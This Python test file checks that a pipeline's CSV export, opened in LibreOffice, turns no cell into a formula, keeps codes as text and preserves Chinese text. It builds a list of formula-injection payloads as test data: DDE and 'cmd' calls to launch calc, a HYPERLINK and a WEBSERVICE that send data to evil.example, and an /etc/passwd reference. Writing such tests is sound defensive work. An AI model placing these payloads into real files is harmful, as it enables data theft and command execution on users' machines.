"""The CSV as a spreadsheet opens it: LibreOffice converts it, and every cell is what the table holds."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest

from dashboard.saving import save
from etl.schema import CLAIMS
from etl.store.export import csv_chunks

OFFICE = shutil.which("soffice") or shutil.which("libreoffice") or ""
pytestmark = pytest.mark.skipif(not OFFICE, reason="no LibreOffice: install libreoffice-calc to open the CSV with it")

AS_ASKED = "CSV:44,34,76,1,,0,false,false"
"""Comma, quotes, UTF-8: what the import dialog proposes for a file with a BOM; a command line has to say it."""
EAGER = "CSV:44,34,76,1,,0,false,true"
"""The same, and everything that looks like a date, a percentage or a fraction is taken for one, as Excel does."""

FIRST = ("=", "+", "-", "@", "\t=", "\r=", "\0=", "\n=", " =", "|", "%", "＝")
REST = (
    "1+1",
    "2+5*cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"x")',
    'WEBSERVICE("http://evil.example")',
    "SUM(A1:A9)",
    "'file:///etc/passwd'#$passwd.A1",
    'DDE("cmd";"/C calc";"x")',
    "利润",
    "",
)
PAYLOADS = tuple(dict.fromkeys(first + rest for first in FIRST for rest in REST))[:100]
CODES = ("12e45", "1E5", "007", "1234567890123456789", "1/6", "2019-05", "3-4", "12:30", "99999999999999999999")


def opened(csv: Path, how: str) -> list[list[Any]]:
    """The cells of the sheet that LibreOffice makes of the file."""
    profile = f"-env:UserInstallation=file://{csv.parent}/profile"
    command = [OFFICE, "--headless", profile, f"--infilter={how}", "--convert-to", "xlsx", "--outdir", str(csv.parent)]
    subprocess.run([*command, str(csv)], check=True, capture_output=True, timeout=240)
    book = openpyxl.load_workbook(io.BytesIO(csv.with_suffix(".xlsx").read_bytes()))
    return [list(line) for line in book.worksheets[0].iter_rows()]


def texts() -> list[str]:
    return [name for name in CLAIMS.names if pa.types.is_string(CLAIMS.field(name).type)]


def hostile_table() -> pa.RecordBatch:
    """A row for each payload, in every text column."""
    columns = []
    for field in CLAIMS:
        if pa.types.is_string(field.type):
            columns.append(pa.array(PAYLOADS, pa.string()))
        elif pa.types.is_list(field.type):
            columns.append(pa.array([[each] for each in PAYLOADS], field.type))
        elif pa.types.is_date(field.type):
            columns.append(pa.array([date(2019, 5, 31)] * len(PAYLOADS)))
        else:
            columns.append(pa.array([-7.5] * len(PAYLOADS)).cast(field.type, safe=False))
    return pa.RecordBatch.from_arrays(columns, names=CLAIMS.names)


@pytest.mark.parametrize("how", [AS_ASKED, EAGER])
def test_no_payload_in_any_column_becomes_a_formula(tmp_path: Path, how: str) -> None:
    assert len(PAYLOADS) == 100
    batch = hostile_table()
    path = tmp_path / "hostile.csv"
    path.write_bytes(b"".join(csv_chunks([batch], batch.schema)))
    _head, *lines = opened(path, how)
    assert len(lines) >= len(PAYLOADS)
    for line in lines:
        assert [cell.value for cell in line if cell.data_type == "f"] == []
    assert all(isinstance(line[CLAIMS.names.index("value")].value, float | int) for line in lines[:5])


def test_numbers_are_numbers_codes_are_text_and_chinese_is_intact(store: Path, tmp_path: Path) -> None:
    path = tmp_path / "found.csv"
    rows = save(path, store, "header=zh&sector=制造业", "http://localhost")
    head, *lines = opened(path, AS_ASKED)
    names = [cell.value for cell in head]
    assert names[:4] == ["编号", "期次", "报纸", "出版日期"]
    assert len(lines) == rows > 20
    for line in lines:
        row = dict(zip(names, (cell.value for cell in line), strict=True))
        assert isinstance(row["数值"], float | int)
        assert isinstance(row["编号"], str)
        assert isinstance(row["期次"], str)
        assert isinstance(row["出版日期"], datetime)
        assert row["状态"] in ("实际", "目标", "预测")
        assert any("\u4e00" <= character <= "\u9fff" for character in row["原句"])
        assert row["原句"][row["句内起"] : row["句内止"]] == str(row["原文数字"])


@pytest.mark.parametrize("how", [AS_ASKED, EAGER])
def test_a_code_that_looks_like_a_number_or_a_date_stays_text(tmp_path: Path, how: str) -> None:
    fields = ["claim_id", "value_text", "period_text"]
    batch = pa.RecordBatch.from_arrays([pa.array(CODES)] * 3, names=fields)
    path = tmp_path / "codes.csv"
    path.write_bytes(b"".join(csv_chunks([batch], batch.schema)))
    _head, *lines = opened(path, how)
    for line, code in zip(lines, CODES, strict=True):
        assert [str(cell.value).removeprefix("'") for cell in line] == [code] * 3
        assert all(isinstance(cell.value, str) for cell in line)
